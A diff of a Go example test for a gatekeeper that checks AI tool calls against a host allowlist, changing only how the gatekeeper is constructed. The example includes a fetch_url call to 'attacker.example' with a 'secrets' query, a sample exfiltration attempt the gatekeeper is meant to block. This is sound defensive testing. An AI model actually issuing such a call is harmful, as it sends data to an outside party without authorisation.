@@ -65,7 +65,7 @@ func ExamplePinCatalog() {
 func ExampleNewGatekeeper() {
 	catalog := `{"tools":[{"name":"fetch_url","inputSchema":{"type":"object","properties":{"url":{"type":"string"}},"required":["url"]}}]}`
 	policy := `{"allow_tools":["fetch_url"],"arguments":{"fetch_url":{"url":{"hosts":["api.example.com"]}}}}`
-	g := core.NewGatekeeper(catalog, policy)
+	g := core.NewGatekeeper(core.GatekeeperRequest{Catalog: catalog, Policy: policy})
 	for _, url := range []string{"https://api.example.com/v1/items", "https://attacker.example/?q=secrets"} {
 		call := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"fetch_url","arguments":{"url":"` + url + `"}}}`
 		d := g.Gate(call).Decision
